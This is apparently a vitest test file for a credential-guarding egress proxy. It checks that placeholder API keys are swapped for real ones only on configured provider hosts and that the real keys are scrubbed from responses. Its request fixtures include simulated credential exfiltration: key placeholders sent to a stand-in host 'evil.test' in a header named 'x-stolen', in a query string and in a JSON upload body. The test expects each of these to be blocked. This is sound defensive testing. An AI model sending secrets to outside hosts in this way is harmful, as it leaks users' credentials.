// The secret in both directions (docs/spec.md §13) through the command line, with real clients:
// curl, Node's fetch and Python's urllib, as children of `run` and as clients of `serve
// --placeholders`, on every engine. Each holds only placeholders; the upstream (an echo,
// support/echoUpstream.ts) gets the real keys where they belong, reflects them back, and the
// clients never see them; a placeholder sent anywhere else is refused.
import { execFile, spawn, type ChildProcess } from 'node:child_process'
import { readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { startEchoUpstream, type EchoUpstream } from '../support/echoUpstream.js'
import { createPki } from '../support/pki.js'
import { CLI, workspace } from './support.js'

const space = workspace()
const { dir, cli } = space
const KEYS = { ALPHA_API_KEY: 'sk-real-alpha-51d2a9e07c44', BETA_API_KEY: 'real-beta-7b19f0c3d2a6' } as const
const ENGINES = ['node', 'http-mitm-proxy', 'mockttp'] as const
const CLIENTS = {
  curl: ['python3', fileURLToPath(new URL('./clients/requests-curl.py', import.meta.url))],
  node: [process.execPath, fileURLToPath(new URL('./clients/requests.mjs', import.meta.url))],
  python: ['python3', fileURLToPath(new URL('./clients/requests.py', import.meta.url))]
} as const

const POLICY = `
mode: connected_allow
inspect: all
providers:
  - { name: alpha, apiUrl: "https://api.alpha.test/", envVar: ALPHA_API_KEY, keyPrefix: "sk-" }
  - { name: beta, apiUrl: "https://api.beta.test/", envVar: BETA_API_KEY }
connections:
  - { provider: alpha, name: default, credentials: { headers: { Authorization: "Bearer \${env:ALPHA_API_KEY}" } } }
  - { provider: beta, name: default, credentials: { headers: { x-api-key: "\${env:BETA_API_KEY}" } } }
`

/** What every client asks, in this order: `{NAME}` is the placeholder the client holds. */
const REQUESTS = [
  { url: 'https://api.alpha.test/echo', headers: { 'x-custom-key': '{ALPHA_API_KEY}' } },
  { url: 'https://api.beta.test/repo', headers: { authorization: 'Basic {BASIC}' } },
  { url: 'https://evil.test/collect', headers: { 'x-stolen': '{ALPHA_API_KEY}' } },
  { url: 'https://evil.test/collect?key={ALPHA_API_KEY}' },
  { url: 'https://evil.test/upload', headers: { 'content-type': 'application/json' }, body: '{"note": "hi", "key": "{BETA_API_KEY}"}' },
  { url: 'https://api.alpha.test/echo/gzip', headers: { 'accept-encoding': 'gzip' } },
  { url: 'https://api.alpha.test/echo/sse' }
]

interface Answer {
  readonly status: number
  readonly body: string
  readonly headers: Record<string, string>
}

const answersOf = (stdout: string): ReadonlyArray<Answer> => stdout.trim().split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Answer)

const basic = (user: string, secret: string): string => Buffer.from(`${user}:${secret}`).toString('base64')

/** Checks the answers to REQUESTS and what the echo received, for a client that held `placeholders`. */
const expectBothDirections = (answers: ReadonlyArray<Answer>, echo: EchoUpstream, from: number, placeholders: Readonly<Record<string, string>>): void => {
  const alpha = placeholders['ALPHA_API_KEY'] ?? ''
  expect(alpha).toMatch(/^sk-egress-guard-[A-Za-z0-9_-]{24}$/)
  expect(answers.map((a) => a.status)).toEqual([200, 200, 403, 403, 403, 200, 200])
  const received = echo.received.slice(from)
  // Swapped: in a header of its own, and inside Basic credentials.
  expect(received.map((r) => r.path)).toEqual(['/echo', '/repo', '/echo/gzip', '/echo/sse'])
  expect(received[0]?.headers['x-custom-key']).toBe(KEYS.ALPHA_API_KEY)
  expect(received[1]?.headers.authorization).toBe(`Basic ${basic('x-access-token', KEYS.BETA_API_KEY)}`)
  // Tripped: header, query, body; named and located in the refusal.
  for (const refused of answers.slice(2, 5)) expect(refused.body).toContain('credential_exfiltration')
  // Scrubbed: the echoed headers, JSON, the gzip body (sent decoded) and the event stream.
  const all = answers.map((a) => a.body + JSON.stringify(a.headers)).join('\n')
  for (const key of Object.values(KEYS)) expect(all).not.toContain(key)
  expect(answers[0]?.headers['x-echo-authorization']).toBe(`Bearer ${alpha}`)
  expect((JSON.parse(answers[0]?.body ?? '{}') as { headers: Record<string, string> }).headers['x-custom-key']).toBe(alpha)
  expect((JSON.parse(answers[5]?.body ?? '{}') as { headers: Record<string, string> }).headers.authorization).toBe(`Bearer ${alpha}`)
  expect(answers[6]?.body).toBe(`data: {"key": "${alpha}"}\n\ndata: [DONE]\n\n`)
}

describe('the secret in both directions, through the command line', () => {
  let echo: EchoUpstream
  let common: ReadonlyArray<string> = []
  const policyPath = join(dir, 'secrets.yaml')
  const env = { ...KEYS, EGRESS_GUARD_CONFIG_DIR: join(dir, 'config') }

  beforeAll(async () => {
    const pki = createPki()
    echo = await startEchoUpstream(pki.leaf(['api.alpha.test', 'api.beta.test', 'evil.test']))
    writeFileSync(policyPath, POLICY)
    writeFileSync(join(dir, 'upstream-ca.pem'), pki.caPem)
    common = ['--policy', policyPath, '--upstream-ca', join(dir, 'upstream-ca.pem'), ...['api.alpha.test', 'api.beta.test', 'evil.test'].flatMap((host) => ['--connect-to', `${host}:443:127.0.0.1:${echo.port}`])]
  })
  afterAll(async () => {
    await echo.close()
  })

  describe.each(ENGINES)('run --engine %s', (engine) => {
    it.each(Object.keys(CLIENTS) as Array<keyof typeof CLIENTS>)('%s: swaps, trips and scrubs', async (client) => {
      const from = echo.received.length
      // The child prints its placeholders first, then its answers; BASIC is built from the placeholder it holds.
      const script = `printf '{"ALPHA_API_KEY":"%s","BETA_API_KEY":"%s"}\\n' "$ALPHA_API_KEY" "$BETA_API_KEY"; BASIC=$(printf 'x-access-token:%s' "$BETA_API_KEY" | base64 -w0) exec "$@"`
      const result = await cli(['run', ...common, '--engine', engine, '--', 'sh', '-c', script, 'sh', ...CLIENTS[client]], { ...env, EG_REQUESTS: JSON.stringify(REQUESTS) })
      expect(result.stderr).toBe('')
      expect(result.code).toBe(0)
      const [first = '', ...rest] = result.stdout.trim().split('\n')
      expectBothDirections(answersOf(rest.join('\n')), echo, from, JSON.parse(first) as Record<string, string>)
    })
  })

  describe.each(ENGINES)('run --engine %s --mode connected_deny', (engine) => {
    // In a deny mode an unrouted host is refused at CONNECT already; the tripwire shows on another provider's route.
    const DENY_REQUESTS = [
      { url: 'https://api.beta.test/x', headers: { 'x-forward': '{ALPHA_API_KEY}' } },
      { url: 'https://api.beta.test/x?k={ALPHA_API_KEY}' },
      { url: 'https://api.beta.test/x', headers: { 'content-type': 'application/json' }, body: '{"k": "{ALPHA_API_KEY}"}' },
      { url: 'https://api.beta.test/x', headers: { 'x-own': '{BETA_API_KEY}' } }
    ]
    it.each(Object.keys(CLIENTS) as Array<keyof typeof CLIENTS>)('%s: the tripwire on header, query and body, the provider’s own placeholder swapped', async (client) => {
      const from = echo.received.length
      const result = await cli(['run', ...common, '--mode', 'connected_deny', '--engine', engine, '--', ...CLIENTS[client]], { ...env, EG_REQUESTS: JSON.stringify(DENY_REQUESTS) })
      expect(result.stderr).toBe('')
      const answers = answersOf(result.stdout)
      expect(answers.map((a) => a.status)).toEqual([403, 403, 403, 200])
      for (const refused of answers.slice(0, 3)) expect(refused.body).toContain('credential_exfiltration')
      expect(echo.received.slice(from).map((r) => r.headers['x-own'])).toEqual([KEYS.BETA_API_KEY])
    })
  })

  describe.each(ENGINES)('serve --engine %s --placeholders', (engine) => {
    let server: ChildProcess
    let proxy = ''
    let bundle = ''
    const file = join(dir, `placeholders-${engine}.env`)

    beforeAll(async () => {
      server = spawn(process.execPath, [CLI, 'serve', ...common, '--engine', engine, '--port', '0', '--json', '--placeholders', file, '--config-dir', join(dir, 'config')], {
        env: { PATH: process.env['PATH'] ?? '', HOME: dir, ...KEYS }
      })
      let stdout = ''
      const listening = await new Promise<{ proxy: string; caCert: string }>((resolve, reject) => {
        server.on('exit', (code) => reject(new Error(`serve exited with ${code}`)))
        server.stdout?.on('data', (d: Buffer) => {
          stdout += d.toString()
          const line = stdout.split('\n')[0] ?? ''
          if (line.endsWith('}')) resolve(JSON.parse(line) as { proxy: string; caCert: string })
        })
      })
      proxy = listening.proxy
      bundle = join(dir, `bundle-${engine}.pem`)
      writeFileSync(bundle, readFileSync(listening.caCert, 'utf8'))
    })
    afterAll(() => {
      server.kill('SIGKILL')
    })

    it('writes fresh placeholders in the keys’ shape to a file only its owner can read', () => {
      const text = readFileSync(file, 'utf8')
      expect(text).toMatch(/^ALPHA_API_KEY=sk-egress-guard-[A-Za-z0-9_-]{24}\nBETA_API_KEY=egress-guard-[A-Za-z0-9_-]{24}\n$/)
      expect(statSync(file).mode & 0o777).toBe(0o600)
      for (const key of Object.values(KEYS)) expect(text).not.toContain(key)
    })

    it.each(Object.keys(CLIENTS) as Array<keyof typeof CLIENTS>)('%s: swaps, trips and scrubs', async (client) => {
      const placeholders = Object.fromEntries(readFileSync(file, 'utf8').trim().split('\n').map((line) => line.split('=') as [string, string]))
      const from = echo.received.length
      const [program = '', ...args] = CLIENTS[client]
      const stdout = await new Promise<string>((resolve) => {
        execFile(program, args, { env: { PATH: process.env['PATH'] ?? '', ...placeholders, BASIC: basic('x-access-token', placeholders['BETA_API_KEY'] ?? ''), EG_PROXY: proxy, EG_CA: bundle, EG_REQUESTS: JSON.stringify(REQUESTS) }, timeout: 30_000 }, (_error, out) => resolve(out))
      })
      expectBothDirections(answersOf(stdout), echo, from, placeholders)
    })
  })
})
